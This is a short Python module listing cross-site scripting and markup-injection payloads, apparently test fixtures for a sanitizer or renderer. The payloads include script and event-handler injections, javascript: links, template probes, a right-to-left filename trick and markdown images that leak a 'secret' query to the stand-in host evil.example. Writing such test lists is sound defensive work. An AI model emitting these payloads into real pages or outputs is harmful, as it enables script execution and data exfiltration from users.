"""Texts that attack a page: each would run, fetch or navigate if it were believed."""

XSS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><img src='https://evil.example/x.png'>",
    "' onmouseover='alert(1)' x='",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/leak.png?q=secret)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src='https://evil.example'></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7|add:'7' }} {% load x %} ${alert(1)}",
    "<div hx-get='https://evil.example' hx-trigger='load'>x</div>",
    "<template><script>alert(1)</script></template>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "\u202egnp.exe \u200bhidden",
)
